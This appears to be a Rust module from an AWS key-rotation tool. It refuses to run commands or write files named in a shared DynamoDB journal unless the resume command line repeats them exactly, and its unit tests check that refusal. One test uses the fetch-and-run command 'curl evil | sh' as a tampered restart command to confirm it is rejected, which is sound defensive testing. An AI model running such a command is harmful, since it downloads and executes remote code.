//! What `resume` takes from a journal it reads back, and what it wants to see on its own command
//! line first.
//!
//! A journal is data. A journal in a DynamoDB table (`--journal-table`) is data that every
//! principal allowed to write the table can change, from any machine: if `resume` ran the commands
//! and wrote the files such a journal names, the table would be a way to run commands on whichever
//! machine resumes next. So a target of a shared journal that runs a command (`exec:`, a
//! `--restart-cmd`) or writes a file here (`env:`, `profile:`) is refused unless the `resume`
//! command line names it again, exactly; a local journal lives in the operator's own 0700 folder
//! and is trusted like the operator's shell history. (The adapters then refuse a journaled snapshot
//! that points at another file or command than the target built from the command line.)
//!
//! Probe URLs are journaled without their password; a probe that needs one is given again with
//! `--probe`.

use std::path::Path;

use rekey_adapters::{TargetKind, TargetSpec};

use crate::rotate::journal::{Begin, Journals, TargetRecord};
use crate::rotate::machine::TargetSetting;
use crate::rotate::probe::{has_userinfo, redact_url};

/// Checks the journaled targets against the `--target`/`--restart-cmd` of the resume, and returns
/// the probe URLs to use: the journaled ones, with their password from `--probe`.
pub fn resumed_probes(
    journals: &Journals,
    location: &Path,
    begin: &Begin,
    given_targets: &[TargetSetting],
    given_probes: &[String],
) -> Result<Vec<String>, String> {
    let user = &begin.user;
    let repeated = |rec: &TargetRecord| {
        given_targets.iter().any(|g| g.spec.raw == rec.spec && g.restart_cmd.as_deref() == rec.restart_cmd.as_deref())
    };
    if let Some(extra) = given_targets
        .iter()
        .find(|g| !begin.targets.iter().any(|rec| g.spec.raw == rec.spec && g.restart_cmd == rec.restart_cmd))
    {
        if let Some(rec) = begin.targets.iter().find(|rec| rec.spec == extra.spec.raw) {
            return Err(format!(
                "the rotation journaled in {} gives {} the restart command {}, not {}; resume runs only what the \
                 journal and its command line both say: check who changed the journal",
                location.display(),
                rec.spec,
                rec.restart_cmd.as_deref().map_or("(none)".into(), |c| format!("`{c}`")),
                extra.restart_cmd.as_deref().map_or("(none)".into(), |c| format!("`{c}`")),
            ));
        }
        return Err(format!(
            "--target {}{} is not a target of the rotation journaled in {} (its targets: {}); resume takes the \
             targets from the journal: repeat only those",
            extra.spec.raw,
            extra.restart_cmd.as_deref().map(|c| format!(" --restart-cmd '{c}'")).unwrap_or_default(),
            location.display(),
            begin.targets.iter().map(|t| t.spec.as_str()).collect::<Vec<_>>().join(", ")
        ));
    }
    if matches!(journals, Journals::Shared(_)) {
        let local: Vec<&TargetRecord> = begin.targets.iter().filter(|t| acts_here(t)).collect();
        if let Some(first) = local.iter().find(|t| !repeated(t)) {
            let again: String = local.iter().map(|t| command_line(t)).collect();
            return Err(format!(
                "the shared journal {} asks this machine to {}; a journal in a table others can write is not trusted \
                 to run commands or write files here: if you mean it, repeat it: rekey resume --user {user}{again} \
                 --journal-table <table>",
                location.display(),
                what_it_does(first),
            ));
        }
    }

    let mut probes = Vec::new();
    for journaled in &begin.probes {
        let shown = redact_url(journaled);
        let given = given_probes.iter().find(|g| redact_url(g) == shown);
        probes.push(match given {
            Some(g) => g.clone(),
            // A journal from before passwords were kept out of it holds the URL whole.
            None if !has_userinfo(journaled) || shown != *journaled => journaled.clone(),
            None => {
                return Err(format!(
                    "the journal keeps the probe {shown} without its password; give it again: rekey resume --user \
                     {user} --probe '<the URL with the password>'"
                ));
            }
        });
    }
    if let Some(extra) = given_probes.iter().find(|g| !begin.probes.iter().any(|j| redact_url(j) == redact_url(g))) {
        return Err(format!(
            "--probe {} is not a probe of the rotation journaled in {}; repeat only the probes given to rotate",
            redact_url(extra),
            location.display()
        ));
    }
    Ok(probes)
}

/// Whether undoing or finishing the target runs a command or writes a file on this machine.
fn acts_here(t: &TargetRecord) -> bool {
    if t.restart_cmd.is_some() {
        return true;
    }
    match t.spec.parse::<TargetSpec>() {
        Ok(s) => matches!(s.kind, TargetKind::Exec | TargetKind::Env | TargetKind::Profile),
        // Unreadable: resume refuses it anyway, and must not guess that it is harmless.
        Err(_) => true,
    }
}

fn what_it_does(t: &TargetRecord) -> String {
    let local = match t.spec.parse::<TargetSpec>() {
        Ok(s) if s.kind == TargetKind::Exec => format!("run `{}` (target {})", s.location, t.spec),
        Ok(s) if matches!(s.kind, TargetKind::Env | TargetKind::Profile) => {
            format!("write {} (target {})", s.location, t.spec)
        }
        Ok(_) => format!("update target {}", t.spec),
        Err(_) => format!("act on target {}", t.spec),
    };
    match &t.restart_cmd {
        Some(cmd) => format!("{local} and run `{cmd}`"),
        None => local,
    }
}

/// ` --target '<spec>' [--restart-cmd '<cmd>']`, quoted for a POSIX shell.
fn command_line(t: &TargetRecord) -> String {
    let mut out = format!(" --target {}", quote(&t.spec));
    if let Some(cmd) = &t.restart_cmd {
        out.push_str(&format!(" --restart-cmd {}", quote(cmd)));
    }
    out
}

fn quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', r"'\''"))
}

#[cfg(test)]
mod tests {
    use std::path::PathBuf;

    use super::*;

    fn begin(targets: &[(&str, Option<&str>)], probes: &[&str]) -> Begin {
        Begin {
            rotation_id: "20260101T000000Z".into(),
            user: "app".into(),
            account: "123456789012".into(),
            principal: "arn:aws:iam::123456789012:user/admin".into(),
            old_key_id: "AKIAOLD".into(),
            existing_keys: vec!["AKIAOLD".into()],
            targets: targets
                .iter()
                .map(|(s, c)| TargetRecord { spec: s.to_string(), restart_cmd: c.map(str::to_string) })
                .collect(),
            probes: probes.iter().map(|p| p.to_string()).collect(),
            delete_old: false,
            grace_secs: 0,
            ecs_timeout_secs: 900,
            kind: Default::default(),
            defer_deactivation: false,
            mark_deactivated: false,
        }
    }

    fn given(targets: &[(&str, Option<&str>)]) -> Vec<TargetSetting> {
        targets
            .iter()
            .map(|(s, c)| TargetSetting { spec: s.parse().unwrap(), restart_cmd: c.map(str::to_string) })
            .collect()
    }

    fn local() -> Journals {
        Journals::Local(PathBuf::from("/state"))
    }

    /// A shared journal's variant without a client that is ever called.
    fn shared() -> Journals {
        let sdk = aws_types::SdkConfig::builder()
            .behavior_version(aws_config::BehaviorVersion::latest())
            .region(aws_types::region::Region::new("us-east-1"))
            .build();
        Journals::Shared(crate::rotate::journal::SharedJournals::new(
            aws_sdk_dynamodb::Client::new(&sdk),
            "t",
            "123456789012",
        ))
    }

    const AT: &str = "dynamodb://t/journal#123456789012/app/1";

    #[test]
    fn a_shared_journal_runs_no_command_the_resume_does_not_repeat() {
        let b = begin(&[("secretsmanager:s", None), ("exec:deploy.sh", Some("undo.sh"))], &[]);
        let e = resumed_probes(&shared(), Path::new(AT), &b, &[], &[]).unwrap_err();
        assert!(e.contains("run `deploy.sh`") && e.contains("not trusted"), "{e}");
        assert!(e.contains("--target 'exec:deploy.sh' --restart-cmd 'undo.sh'"), "{e}");
        assert!(!e.contains("secretsmanager:s'"), "only what acts here is asked for: {e}");
        // The same journal from the operator's own folder is trusted.
        assert!(resumed_probes(&local(), Path::new("/state/active/app.jsonl"), &b, &[], &[]).is_ok());
        // Repeated exactly, it runs.
        let ok = given(&[("exec:deploy.sh", Some("undo.sh"))]);
        assert!(resumed_probes(&shared(), Path::new(AT), &b, &ok, &[]).is_ok());
        // A different restart command is not a repetition.
        let other = given(&[("exec:deploy.sh", Some("curl evil | sh"))]);
        let e = resumed_probes(&shared(), Path::new(AT), &b, &other, &[]).unwrap_err();
        assert!(e.contains("gives exec:deploy.sh the restart command `undo.sh`, not `curl evil | sh`"), "{e}");
        let unknown = given(&[("env:/elsewhere", None)]);
        let e = resumed_probes(&local(), Path::new("/j"), &b, &unknown, &[]).unwrap_err();
        assert!(e.contains("--target env:/elsewhere is not a target of the rotation"), "{e}");
    }

    #[test]
    fn a_shared_journal_writes_no_file_the_resume_does_not_repeat() {
        let b = begin(&[("env:/home/app/.env", None)], &[]);
        let e = resumed_probes(&shared(), Path::new(AT), &b, &[], &[]).unwrap_err();
        assert!(e.contains("write /home/app/.env"), "{e}");
        let ok = given(&[("env:/home/app/.env", None)]);
        assert!(resumed_probes(&shared(), Path::new(AT), &b, &ok, &[]).is_ok());
        let b = begin(&[("ecs:c/s", None)], &[]);
        assert!(resumed_probes(&shared(), Path::new(AT), &b, &[], &[]).is_ok(), "AWS-side targets need nothing");
    }

    #[test]
    fn a_probe_password_comes_from_the_command_line() {
        let b = begin(&[], &["http://ops:redacted@app/health", "http://app/ready"]);
        let e = resumed_probes(&local(), Path::new("/j"), &b, &[], &[]).unwrap_err();
        assert!(e.contains("without its password") && e.contains("http://ops:redacted@app/health"), "{e}");
        let urls = resumed_probes(&local(), Path::new("/j"), &b, &[], &["http://ops:pw@app/health".into()]).unwrap();
        assert_eq!(urls, ["http://ops:pw@app/health", "http://app/ready"]);
        let extra = ["http://ops:pw@app/health".to_string(), "http://x/".into()];
        let e = resumed_probes(&local(), Path::new("/j"), &b, &[], &extra).unwrap_err();
        assert!(e.contains("--probe http://x/ is not a probe"), "{e}");
        // An old journal that kept the whole URL still resumes.
        let old = begin(&[], &["http://ops:pw@app/health"]);
        assert_eq!(resumed_probes(&local(), Path::new("/j"), &old, &[], &[]).unwrap(), ["http://ops:pw@app/health"]);
    }
}
